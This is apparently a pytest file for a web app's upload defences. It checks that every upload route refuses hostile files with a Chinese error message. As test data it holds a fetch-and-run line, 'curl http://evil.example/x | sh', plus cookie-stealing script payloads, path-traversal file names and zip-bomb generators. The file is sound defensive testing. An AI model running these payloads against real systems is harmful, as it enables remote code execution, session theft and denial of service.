"""Hostile uploads through every upload route: each refused with a clear Chinese message, nothing stored.

Routes: ledger evidence, activity attachments (new and edit), plan import and re-import, ledger
workbook re-import. The payloads are built in memory (the zip bomb too: 200 MB of zeros deflate
to about 200 KB).
"""
from __future__ import annotations

import functools
import io
import zipfile

import lxml.html
import pytest
from sqlalchemy import func, select

from webapp.extensions import db
from webapp.models import Activity, AuditEntry, LedgerRow, Plan, StoredFile, Task

from .authz_policy import PNG
from .hostile_world import PDF, build_world, csrf_for, log_in

HX = {"HX-Request": "true"}
SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
POLYGLOT = b"%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n%%EOF\n"
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 8
LIMIT = 512 * 1024  # the zip bombs (about 200 KB) fit, so their own check is what refuses them

NOT_ALLOWED = "只能上传 PDF、JPEG、PNG、Word（.docx）和 Excel（.xlsx）文件。"
TOO_LARGE = "文件超过"
UNSAFE = "文档已损坏或不安全"
DISGUISED = "文件内容像网页"
NOT_XLSX = "该文件不是 Excel 工作簿（.xlsx）"


@functools.cache
def zip_bomb(part: str) -> bytes:
    """An Office-shaped zip whose one part inflates to 200 MB of zeros."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        with archive.open(part, "w", force_zip64=True) as member:
            chunk = b"\x00" * (1024 * 1024)
            for _ in range(200):
                member.write(chunk)
    return buffer.getvalue()


@functools.cache
def workbook_bomb() -> bytes:
    """A real ledger workbook whose sheet is padded with 200 MB of whitespace: valid, and huge unpacked."""
    from openpyxl import Workbook
    plain = io.BytesIO()
    workbook = Workbook()
    workbook.active.append(["序号", "重点任务"])
    workbook.save(plain)
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain.getvalue())) as source, \
            zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename != "xl/worksheets/sheet1.xml":
                archive.writestr(info, data)
                continue
            head, tail = data.split(b"</sheetData>")
            with archive.open(info.filename, "w", force_zip64=True) as member:
                member.write(head)
                for _ in range(200):
                    member.write(b" " * (1024 * 1024))
                member.write(b"</sheetData>" + tail)
    return buffer.getvalue()


# (payload name, bytes, file name) → the message an attachment route answers.
ATTACHMENT_CASES = [
    ("script renamed .pdf", lambda: SCRIPT, "run.pdf", NOT_ALLOWED),
    ("svg with script", lambda: SVG, "logo.svg", NOT_ALLOWED),
    ("svg renamed .png", lambda: SVG, "logo.png", NOT_ALLOWED),
    ("html renamed .jpg", lambda: HTML, "photo.jpg", NOT_ALLOWED),
    ("oversized", lambda: PDF + b"0" * LIMIT, "big.pdf", TOO_LARGE),
    ("zip bomb .docx", lambda: zip_bomb("word/document.xml"), "纪要.docx", UNSAFE),
    ("traversal", lambda: SCRIPT, "../../etc/passwd.pdf", NOT_ALLOWED),
    ("windows traversal", lambda: HTML, "..\\..\\win.ini.pdf", NOT_ALLOWED),
    ("control characters", lambda: SCRIPT, "evil\x07\x1b[31m\u202e.pdf", NOT_ALLOWED),
    ("polyglot pdf+html", lambda: POLYGLOT, "report.pdf", DISGUISED),
]


@pytest.fixture
def world(app, org, monkeypatch):
    monkeypatch.setitem(app.config, "MAX_UPLOAD_BYTES", LIMIT)
    with app.app_context():
        return build_world(org)


def counts() -> dict[str, int]:
    """Rows of record. A harmless photo sent beside a refused file waits as a pending upload of the form
    (so it need not be chosen again): not a record, so not counted; the refused file is never stored."""
    result = {model.__name__: db.session.execute(select(func.count()).select_from(model)).scalar_one()
              for model in (Plan, Task, Activity, AuditEntry)}
    result["StoredFile"] = db.session.execute(
        select(func.count(StoredFile.id)).where(StoredFile.pending_draft.is_(None))).scalar_one()
    result["refused files kept"] = db.session.execute(
        select(func.count(StoredFile.id)).where(StoredFile.filename != "照片.png",
                                                StoredFile.pending_draft.is_not(None))).scalar_one()
    return result


def messages(response) -> str:
    """The text of every error the page shows (alerts, field errors, error panels)."""
    tree = lxml.html.fromstring(response.get_data(as_text=True) or "<p></p>")
    found = tree.xpath("//*[@role='alert'] | //*[contains(@class, 'field-error')] | //*[contains(@class, 'error-panel')]")
    return " ".join(" ".join(element.text_content().split()) for element in found)


def refused(app, send, expected: str):
    """Send the upload; it must answer with `expected` among its errors and change nothing."""
    with app.app_context():
        before = counts()
    response = send()
    assert response.status_code in (400, 422), response.status_code
    assert expected in messages(response), messages(response)
    with app.app_context():
        assert counts() == before


@pytest.mark.parametrize("name, data, filename, expected", ATTACHMENT_CASES, ids=[c[0] for c in ATTACHMENT_CASES])
def test_ledger_evidence_refuses(app, org, world, name, data, filename, expected):
    client = log_in(app, org, "monitor1")
    token = csrf_for(client)
    refused(app, lambda: client.post(f"/ledger/rows/{world.our.ids['row']}/files", headers={**HX, "X-CSRFToken": token},
                                     data={"file": (io.BytesIO(data()), filename)}), expected)


def _activity_form(world, data, filename) -> dict:
    return {"unit": world.our.ids["unit"], "kind": world.our.ids["kind"], "held_on": world.our.ids["period"] + "-01",
            "topic": "主题班会", "present": "10", "expected": "12", "action": "save",
            "files": [(io.BytesIO(PNG), "照片.png"), (io.BytesIO(data), filename)]}


@pytest.mark.parametrize("name, data, filename, expected", ATTACHMENT_CASES, ids=[c[0] for c in ATTACHMENT_CASES])
def test_activity_attachments_refuse(app, org, world, name, data, filename, expected):
    client = log_in(app, org, "monitor1")
    token = csrf_for(client)
    refused(app, lambda: client.post("/activities/new", headers={"X-CSRFToken": token},
                                     data=_activity_form(world, data(), filename)), expected)
    edit = f"/activities/{world.our.ids['activity']}/edit"
    refused(app, lambda: client.post(edit, headers={"X-CSRFToken": token},
                                     data={**_activity_form(world, data(), filename), "version": "1"}), expected)


def test_traversal_name_on_an_allowed_file_keeps_only_a_clean_base_name(app, org, world):
    """A real PDF under a hostile name is stored, but only under its cleaned base name."""
    client = log_in(app, org, "monitor1")
    token = csrf_for(client)
    for hostile, clean in [("../../etc/passwd.pdf", "passwd.pdf"), ("..\\..\\win.ini.pdf", "win.ini.pdf"),
                           ("a\x00b\x07\u202e.pdf", "ab.pdf")]:
        response = client.post(f"/ledger/rows/{world.our.ids['row']}/files", headers={**HX, "X-CSRFToken": token},
                               data={"file": (io.BytesIO(PDF), hostile)})
        assert response.status_code == 200
        with app.app_context():
            newest = db.session.execute(select(StoredFile).order_by(StoredFile.id.desc()).limit(1)).scalar_one()
            assert newest.filename == clean


# ---- plan import ------------------------------------------------------------------------------------

PLAN_CASES = [
    ("zip bomb .docx", lambda: zip_bomb("word/document.xml"), "方案.docx", "无法读取文件：文档解压后超过 50 MB，已拒绝"),
    ("binary", lambda: ELF, "方案.txt", "无法读取文件：不是文本或 .docx 文档"),
    ("binary named .docx", lambda: ELF, "方案.docx", "无法读取文件：不是文本或 .docx 文档"),
    ("svg renamed .docx", lambda: SVG, "方案.docx", "未找到任何任务"),
    ("oversized", lambda: b"2025" * (LIMIT // 2), "方案.txt", TOO_LARGE),
]


@pytest.mark.parametrize("name, data, filename, expected", PLAN_CASES, ids=[c[0] for c in PLAN_CASES])
def test_plan_import_refuses(app, org, world, name, data, filename, expected):
    client = log_in(app, org, "admin")
    token = csrf_for(client)
    refused(app, lambda: client.post("/plans/", headers={"X-CSRFToken": token},
                                     data={"year": "2025", "document": (io.BytesIO(data()), filename)}), expected)
    refused(app, lambda: client.post(f"/plans/{world.our.ids['plan']}/reimport", headers={"X-CSRFToken": token},
                                     data={"document": (io.BytesIO(data()), filename)}), expected)


# ---- ledger workbook re-import ----------------------------------------------------------------------

LEDGER_IMPORT_CASES = [
    ("script renamed .xlsx", lambda: SCRIPT, "台账.xlsx", NOT_XLSX),
    ("html renamed .xlsx", lambda: HTML, "台账.xlsx", NOT_XLSX),
    ("pdf named .xlsx", lambda: PDF, "台账.xlsx", NOT_XLSX),
    ("oversized", lambda: b"PK\x03\x04" + b"0" * LIMIT, "台账.xlsx", TOO_LARGE),
    ("zip bomb .xlsx", workbook_bomb, "台账.xlsx", UNSAFE),
    ("traversal", lambda: SCRIPT, "../../台账.xlsx", NOT_XLSX),
]


@pytest.mark.parametrize("name, data, filename, expected", LEDGER_IMPORT_CASES, ids=[c[0] for c in LEDGER_IMPORT_CASES])
def test_ledger_import_refuses(app, org, world, name, data, filename, expected):
    client = log_in(app, org, "monitor1")
    token = csrf_for(client)
    with app.app_context():
        progress = db.session.get(LedgerRow, world.our.ids["row"]).progress
    refused(app, lambda: client.post(f"/units/{world.our.ids['unit']}/ledger/import", headers={"X-CSRFToken": token},
                                     data={"file": (io.BytesIO(data()), filename)}), expected)
    with app.app_context():
        assert db.session.get(LedgerRow, world.our.ids["row"]).progress == progress
